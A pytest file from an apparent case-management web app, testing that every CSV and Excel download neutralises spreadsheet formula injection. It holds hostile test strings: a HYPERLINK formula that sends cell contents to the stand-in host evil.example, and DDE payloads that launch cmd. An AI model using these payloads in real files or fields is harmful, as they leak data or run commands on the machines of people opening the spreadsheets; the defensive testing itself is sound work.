"""Formula injection (issue 13 §2): no cell of any download is a formula.

A concern titled `=HYPERLINK("http://…"&A2,"Click")` became a live link in the Excel download and
in every CSV. Every text cell that a spreadsheet could read as a formula now starts with a single
quote (OWASP), Excel text cells are typed as text, and numbers and dates stay numbers and dates.
The walk finds every download from the URL resolver and the links on each page (tests/downloads).
"""

from __future__ import annotations

import datetime as dt

import pytest
import time_machine

from cases.models import Child
from dashboards.views import TABLES
from prp.exports import FORMULA_STARTS, _cell, neutralise
from prp.models import Team
from qapr.models import Grade, Qapr, QaprState, Recommendation, Variant
from tests.downloads import cells, download_links, query_of
from tests.prp.test_reports import categories, make_concern, make_note, make_stage, make_task

pytestmark = pytest.mark.usefixtures("gloucestershire")

TODAY = dt.datetime(2026, 4, 15, 10, 0)  # a Wednesday: last month is March, the year 2025 to 2026
TITLE = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
IMPACT = "+1+cmd|' /C calc'!A0"
NOTE = "\t=1+1"
RECOMMENDATION = "-2+3+cmd|' /C calc'!A0"
CATEGORY = '\uff1dHYPERLINK("http://evil.example")'
TEAM = "\r=Team"
HOSTILE = (TITLE, FIRST_NAME, IMPACT, RECOMMENDATION, CATEGORY, TEAM, NOTE)


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(TODAY, tick=False) as traveller:
        yield traveller


def may_be_read_as_formula(text: str) -> bool:
    return text[:1] in {"\t", "\r"} or text.lstrip()[:1] in FORMULA_STARTS


# The one function ------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", *"\uff1d\uff0b\uff0d\uff20"])
def test_a_cell_starting_with_a_formula_character_gets_a_single_quote(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", *"\uff1d\uff0b\uff0d\uff20"])
def test_spaces_and_line_breaks_before_a_formula_character_do_not_hide_it(start):
    assert neutralise(f"  \n{start}1+1") == f"'  \n{start}1+1"


@pytest.mark.parametrize("text", ["Placement drift", "", "1 = 1", "a-b", "'quoted", "50%"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_numbers_and_dates_stay_numbers_and_dates(fmt):
    for value in (-5, -2.5, 0, dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30)):
        assert _cell(value, fmt) == value
    assert _cell("-5", fmt) == "'-5"  # text that looks like a number is still text


# Every download, with hostile text in every field people type -----------------------------------


@pytest.fixture
def hostile(iro, team, child, team_manager, social_worker):
    Team.objects.filter(pk=team.pk).update(name=TEAM)
    Child.objects.filter(pk=child.pk).update(
        first_name=FIRST_NAME,
        review_due_on=dt.date(2026, 4, 1),
        review_due_reason="Every six months",
        qapr_due_on=dt.date(2026, 5, 1),
    )
    child.refresh_from_db()
    category, _ = categories()
    type(category).objects.filter(pk=category.pk).update(name=CATEGORY)
    category.refresh_from_db()
    for opened in (dt.date(2026, 3, 2), dt.date(2026, 4, 13)):
        concern = make_concern(
            child, raised_by=iro, opened=opened, title=TITLE, subs=[(category, IMPACT, opened)]
        )
        stage = make_stage(concern, 1, opened=opened)
        make_task(stage, team_manager, due=dt.date(2026, 3, 30), delegated=opened)
    for created in (dt.date(2026, 3, 16), dt.date(2026, 4, 13)):
        note = make_note(iro, social_worker, created=created, child=child, team=team)
        type(note).objects.filter(pk=note.pk).update(note=NOTE, impact_on_child=IMPACT)
    qapr = Qapr.objects.create(
        child=child,
        author=iro,
        variant=Variant.CHILD_IN_CARE,
        state=QaprState.FINALISED,
        grade=Grade.GOOD,
        completed_on=dt.date(2026, 3, 20),
    )
    Recommendation.objects.create(
        qapr=qapr, text=RECOMMENDATION, owner=social_worker, due_on=dt.date(2026, 4, 1)
    )


def test_no_cell_of_any_download_is_a_formula(client, hostile, iro, team_manager, service_manager):
    files = {}
    for person in (iro, team_manager, service_manager):
        for link in sorted(download_links(client, person)):
            response = client.get(link)
            assert response.status_code == 200, link
            files[(link, person.pk)] = cells(response)

    # The walk found every kind of download, so it cannot pass by finding none.
    paths = {link.split("?")[0] for link, _ in files}
    assert {
        "/concerns/",
        "/concerns/clinic/",
        "/tasks/",
        "/children/",
        "/children/reviews-due/",
        "/qapr/",
        "/qapr/recommendations/",
        "/reports/themes/",
        "/reports/clinic-pack/",
        "/reports/annual/",
        "/dashboard/",
    } <= paths
    dashboard_tables = {query_of(link).get("table") for link, _ in files if "/dashboard/" in link}
    assert set(TABLES) <= dashboard_tables

    seen = set()
    for (link, _), found in files.items():
        for value, data_type in found:
            assert data_type != "f", (link, value)
            if isinstance(value, str):
                assert not may_be_read_as_formula(value), (link, value)
                seen.update(text for text in HOSTILE if value.startswith(f"'{text}"))
    # The hostile text reached the files (neutralised), so the check above had work to do.
    assert seen >= {TITLE, FIRST_NAME, RECOMMENDATION, CATEGORY, TEAM}, seen
    excel = [kind for (link, _), found in files.items() if "xlsx" in link for _, kind in found]
    assert {"s", "n", "d"} <= set(excel)  # numbers and dates are still numbers and dates
